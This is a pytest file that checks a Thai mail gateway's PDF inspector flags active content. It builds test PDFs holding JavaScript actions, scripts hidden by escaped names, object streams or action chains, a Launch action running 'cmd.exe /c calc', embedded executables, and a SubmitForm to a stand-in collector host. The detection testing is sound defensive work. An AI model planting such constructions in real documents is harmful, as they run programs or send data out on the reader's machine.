"""Active content in an incoming PDF gets a Thai remark (issue #18, finding 7): JavaScript
wherever a viewer would run it, launch actions, embedded files, form submission. The letter
is still taken in; a clean letter gets no remark; a hostile structure never crashes the read.

Attacks are data: one row = one PDF built here (pypdf's writer, or pyHanko's where an object
stream is needed) and the remarks it must get.
"""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from pyhanko.pdf_utils import generic as hg
from pyhanko.pdf_utils.writer import PageObject, PdfFileWriter
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from gateway.pdf.active import MAX_DEPTH
from gateway.pdf.check import inspect_pdf
from tests.corpus.mail import letter_mail, letter_pdf, numbered_letter_pdf
from tests.pdfgen.documents import PdfSpec, make_pdf
from tests.pdfgen.pki import Pki
from tests.pdfgen.signed import sender_signed

NOW = dt.datetime.now(dt.UTC)
JS = "ไฟล์ PDF มีสคริปต์ (JavaScript)"
LAUNCH = "ไฟล์ PDF มีคำสั่งเปิดโปรแกรมภายนอก (Launch)"
SUBMIT = "SubmitForm/ImportData"
INCOMPLETE = "ได้ไม่ครบ"


def embedded(n: int) -> str:
    return f"ไฟล์ PDF มีไฟล์แนบฝังอยู่ {n} ไฟล์"


# --- building hostile PDFs -----------------------------------------------------------------

def _writer() -> PdfWriter:
    return PdfWriter(clone_from=io.BytesIO(letter_pdf()))


def _out(w: PdfWriter) -> bytes:
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def _action(kind: str, **extra: object) -> DictionaryObject:
    d = DictionaryObject({NameObject("/Type"): NameObject("/Action"),
                          NameObject("/S"): NameObject(kind)})
    for k, v in extra.items():
        d[NameObject(f"/{k}")] = v  # type: ignore[assignment]
    return d


def _js_action(code: str = "app.alert('x')") -> DictionaryObject:
    return _action("/JavaScript", JS=TextStringObject(code))


def _annot(w: PdfWriter, subtype: str, **extra: object) -> None:
    a = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 72, 200, 90)]),
    })
    for k, v in extra.items():
        a[NameObject(f"/{k}")] = v  # type: ignore[assignment]
    page = w.pages[0]
    annots = page.get("/Annots")
    arr = annots.get_object() if annots is not None else ArrayObject()
    arr.append(w._add_object(a))
    page[NameObject("/Annots")] = arr


def _filespec(w: PdfWriter, name: str, data: bytes) -> IndirectObject:
    stream = DecodedStreamObject()
    stream.set_data(data)
    stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
    return w._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject(name),
        NameObject("/EF"): DictionaryObject({NameObject("/F"): w._add_object(stream)}),
    }))


def open_action_js() -> bytes:
    w = _writer()
    w._root_object[NameObject("/OpenAction")] = w._add_object(_js_action())
    return _out(w)


def names_tree_js() -> bytes:
    w = _writer()
    w.add_open_action(JavaScript("this.print({bUI:false});"))  # the /Names /JavaScript tree
    return _out(w)


def page_aa_js() -> bytes:
    w = _writer()
    w.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.beep(0);"))
    return _out(w)


def catalog_aa_js() -> bytes:
    w = _writer()
    w._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _js_action()})
    return _out(w)


def widget_field_js() -> bytes:
    w = _writer()
    _annot(w, "/Widget", FT=NameObject("/Tx"), T=TextStringObject("name"),
           AA=DictionaryObject({NameObject("/K"): _js_action("event.value='x'")}))
    return _out(w)


def link_js() -> bytes:
    w = _writer()
    _annot(w, "/Link", A=_js_action())
    return _out(w)


def js_after_harmless_goto() -> bytes:
    """The script hides at the end of an action chain (/Next) behind a plain GoTo."""
    w = _writer()
    goto = _action("/GoTo", D=ArrayObject([w.pages[0].indirect_reference, NameObject("/Fit")]),
                   Next=ArrayObject([_action("/GoTo", D=ArrayObject([NumberObject(0)])),
                                     w._add_object(_js_action())]))
    w._root_object[NameObject("/OpenAction")] = goto
    return _out(w)


def outline_js() -> bytes:
    w = _writer()
    item = w.add_outline_item(title="บทนำ", page_number=0)
    item.get_object()[NameObject("/A")] = _js_action()
    return _out(w)


def js_escaped_name() -> bytes:
    """/S /J#61vaScript: the same name to a viewer, not to a byte search."""
    raw = _out(_with_uncompressed_open_action())
    assert raw.count(b"/S /JavaScript") == 1 and raw.count(b"abcdefgh") == 1
    # two bytes longer here, two shorter in the same object: every offset stays right
    out = raw.replace(b"/S /JavaScript", b"/S /J#61vaScript").replace(b"abcdefgh",
                                                                     b"abcdef")
    assert b"JavaScript" not in out
    return out


def _with_uncompressed_open_action() -> PdfWriter:
    w = _writer()
    w._root_object[NameObject("/OpenAction")] = _js_action("abcdefgh")
    return w


def js_in_object_stream() -> bytes:
    """The script action lives inside a compressed object stream (pyHanko's writer)."""
    w = PdfFileWriter(stream_xrefs=True)
    content = hg.StreamObject(stream_data=b"BT /F1 12 Tf 72 720 Td (hello) Tj ET")
    w.insert_page(PageObject(w.add_object(content), (0, 0, 595, 842)))
    objs = w.prepare_object_stream()
    action = hg.DictionaryObject({hg.pdf_name("/S"): hg.pdf_name("/JavaScript"),
                                  hg.pdf_name("/JS"): hg.pdf_string("app.alert(1)")})
    w.root[hg.pdf_name("/OpenAction")] = w.add_object(action, obj_stream=objs)
    out = io.BytesIO()
    w.write(out)
    data = out.getvalue()
    assert b"app.alert" not in data and b"/ObjStm" in data  # really hidden from a byte search
    return data


def launch_open_action() -> bytes:
    w = _writer()
    w._root_object[NameObject("/OpenAction")] = _action(
        "/Launch", F=TextStringObject("cmd.exe"),
        Win=DictionaryObject({NameObject("/F"): TextStringObject("cmd.exe"),
                              NameObject("/P"): TextStringObject("/c calc")}))
    return _out(w)


def launch_link() -> bytes:
    w = _writer()
    _annot(w, "/Link", A=_action("/Launch", F=TextStringObject("update.exe")))
    return _out(w)


def two_attachments() -> bytes:
    w = _writer()
    w.add_attachment("สำเนา.xlsx", b"PK\x03\x04 not really")
    w.add_attachment("payload.exe", b"MZ")
    return _out(w)


def file_attachment_annotation() -> bytes:
    w = _writer()
    _annot(w, "/FileAttachment", FS=_filespec(w, "evil.docm", b"macro"),
           Name=NameObject("/PushPin"))
    return _out(w)


def same_file_twice() -> bytes:
    """One embedded file named in the /EmbeddedFiles tree and by an annotation: one file."""
    w = _writer()
    spec = _filespec(w, "a.pdf", b"%PDF-1.4")
    w._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/EmbeddedFiles"):
        DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a.pdf"), spec])})})
    _annot(w, "/FileAttachment", FS=spec)
    return _out(w)


def submit_form() -> bytes:
    w = _writer()
    _annot(w, "/Widget", FT=NameObject("/Btn"), T=TextStringObject("send"),
           A=_action("/SubmitForm", F=TextStringObject("http://collector.example/")))
    return _out(w)


def import_data() -> bytes:
    w = _writer()
    w._root_object[NameObject("/OpenAction")] = _action("/ImportData",
                                                        F=TextStringObject("data.fdf"))
    return _out(w)


def everything() -> bytes:
    w = _writer()
    w._root_object[NameObject("/OpenAction")] = w._add_object(_js_action())
    _annot(w, "/Link", A=_action("/Launch", F=TextStringObject("x.exe")))
    w.add_attachment("x.bin", b"x")
    return _out(w)


def action_cycle() -> bytes:
    """/Next pointing back at itself: the walk ends, and the script is still found."""
    w = _writer()
    ref = w._add_object(_js_action())
    ref.get_object()[NameObject("/Next")] = ref
    w._root_object[NameObject("/OpenAction")] = ref
    return _out(w)


def deep_nesting() -> bytes:
    """Arrays nested far deeper than any real document: the walk stops and says so."""
    w = _writer()
    inner: object = _js_action()
    for _ in range(MAX_DEPTH * 3):
        inner = ArrayObject([inner])
    w._root_object[NameObject("/Junk")] = inner  # type: ignore[assignment]
    return _out(w)


def dangling_open_action() -> bytes:
    """OpenAction points at an object that is not in the file."""
    w = _with_uncompressed_open_action()
    w._root_object[NameObject("/OpenAction")] = IndirectObject(9999, 0, w)
    return _out(w)


def uri_link_only() -> bytes:
    """A plain web link is not active content (letters carry them)."""
    return make_pdf(PdfSpec(annotations=True))


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[], bytes]
    remarks: tuple[str, ...]  # each must appear; nothing else may


CASES = [
    Case("OpenAction JavaScript", open_action_js, (JS,)),
    Case("document-level /Names /JavaScript", names_tree_js, (JS,)),
    Case("page /AA on open", page_aa_js, (JS,)),
    Case("catalog /AA on close", catalog_aa_js, (JS,)),
    Case("form field keystroke script", widget_field_js, (JS,)),
    Case("link annotation script", link_js, (JS,)),
    Case("script behind a GoTo in /Next", js_after_harmless_goto, (JS,)),
    Case("outline item script", outline_js, (JS,)),
    Case("escaped name /J#61vaScript", js_escaped_name, (JS,)),
    Case("script inside an object stream", js_in_object_stream, (JS,)),
    Case("Launch on open", launch_open_action, (LAUNCH,)),
    Case("Launch from a link", launch_link, (LAUNCH,)),
    Case("two embedded files", two_attachments, (embedded(2),)),
    Case("FileAttachment annotation", file_attachment_annotation, (embedded(1),)),
    Case("one file named twice", same_file_twice, (embedded(1),)),
    Case("SubmitForm button", submit_form, (SUBMIT,)),
    Case("ImportData on open", import_data, (SUBMIT,)),
    Case("script, launch and a file together", everything, (JS, LAUNCH, embedded(1))),
    Case("action cycle", action_cycle, (JS,)),
    Case("hostile nesting depth", deep_nesting, (INCOMPLETE,)),
    Case("dangling OpenAction", dangling_open_action, ()),
    # clean letters, as tests/corpus builds them: no remark at all
    Case("corpus letter", lambda: letter_pdf(), ()),
    Case("corpus numbered letter, 3 pages", lambda: numbered_letter_pdf(7, pages=3), ()),
    Case("scan", lambda: letter_pdf(content="scan"), ()),
    Case("owner-password letter", lambda: letter_pdf(encryption="owner-aes256"), ()),
    Case("letter with a web link, note and markup", uri_link_only, ()),
]


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_active_content_remarks(case: Case) -> None:
    report = inspect_pdf(case.make(), now=NOW)
    assert report.readable, report.reason_en  # a remark, never a refusal
    got = report.active.remarks_th
    assert len(got) == len(case.remarks), got
    for want, line in zip(case.remarks, got, strict=True):
        assert want in line, got


def test_signed_letters_are_clean(pki: Pki, sender_signed_pdf: bytes) -> None:
    assert inspect_pdf(sender_signed_pdf, now=NOW).active.remarks_th == ()
    signed_js = sender_signed(open_action_js(), pki)
    assert JS in inspect_pdf(signed_js, now=NOW).active.remarks_th[0]


@pytest.mark.parametrize("data", [b"%PDF-1.7\n1 0 obj << /OpenAction", b"", b"%PDF-1.4\n%%EOF"])
def test_broken_files_keep_their_outcome(data: bytes) -> None:
    report = inspect_pdf(data, now=NOW)
    assert not report.readable and report.reason_th  # unreadable, as before: no crash


def test_many_objects_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    """Past the object budget the walk stops and says the check is incomplete."""
    import gateway.pdf.active as active

    monkeypatch.setattr(active, "MAX_OBJECTS", 3)
    got = active.find_active_content(PdfReader(io.BytesIO(numbered_letter_pdf(3, pages=5))))
    assert got.incomplete and not got.javascript


async def _register(tmp_path: Path, raw: bytes) -> tuple[str, list[str], str]:
    """(register remarks, the letter's remarks, its state) after the pipeline took `raw`."""
    from sqlalchemy import select

    from gateway.app import open_store
    from gateway.core.compose import template_env
    from gateway.inbound.pipeline import Pipeline
    from gateway.service import accept_smtp
    from gateway.store.tables import Letter, RegisterEntry
    from tests.conftest import FakeClock, make_settings

    settings = make_settings(tmp_path, f"sqlite+aiosqlite:///{tmp_path / 'store.sqlite3'}",
                             intake={"read_processes": 0})
    store = await open_store(settings, upgrade=True,
                             clock=FakeClock(dt.datetime(2026, 12, 2, 3, 0, tzinfo=dt.UTC)))
    try:
        letter_id = await accept_smtp(store, raw, "saraban@obec.go.th", ["saraban@agency.test"])
        await Pipeline.build(store, template_env()).process(letter_id)
        async with store.sessions() as s:
            letter = await s.get(Letter, letter_id)
            entry = (await s.execute(select(RegisterEntry).where(
                RegisterEntry.letter_id == letter_id))).scalar_one_or_none()
        assert letter is not None
        return (entry.remarks if entry else ""), list(letter.sender_flags), letter.state
    finally:
        await store.close()


async def test_register_entry_carries_the_remark(tmp_path: Path) -> None:
    """End to end: a letter whose PDF runs a script is registered, with the remark in its
    register entry and on the letter (the clerk's copy shows the letter's remarks)."""
    remarks, flags, state = await _register(tmp_path, letter_mail(open_action_js()))
    assert state == "registered"
    assert JS in remarks and any(JS in f for f in flags)
    (tmp_path / "clean").mkdir()
    clean, clean_flags, state = await _register(tmp_path / "clean", letter_mail(letter_pdf()))
    assert state == "registered" and JS not in clean
    assert not any("PDF" in f for f in clean_flags)  # other remarks (the sender's) may stand
